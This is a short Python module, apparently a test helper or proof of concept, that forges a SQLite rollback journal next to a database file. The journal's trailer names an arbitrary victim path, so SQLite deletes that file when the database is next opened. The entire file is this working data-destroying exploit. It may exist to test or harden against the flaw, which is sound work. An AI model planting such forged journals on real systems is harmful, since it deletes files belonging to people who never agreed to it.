"""A journal by which a stranger makes SQLite delete a file."""

from __future__ import annotations

import os
import struct
from pathlib import Path


def put_journal(state: Path, victim: Path) -> None:
    """As SQLite leaves it when a change of several files is cut off: it ends with one to be deleted."""
    magic, name = bytes.fromhex("d9d505f920a163d7"), os.fsencode(victim)
    page_bytes = struct.unpack(">H", state.read_bytes()[16:18])[0]
    pages = state.stat().st_size // page_bytes
    head = (magic + struct.pack(">IIIII", 0, 0, pages, 512, page_bytes)).ljust(512, b"\0")
    end = struct.pack(">I", (1 << 30) // page_bytes + 1) + name + struct.pack(">II", len(name), sum(name))
    state.with_name(f"{state.name}-journal").write_bytes(head + end + magic)
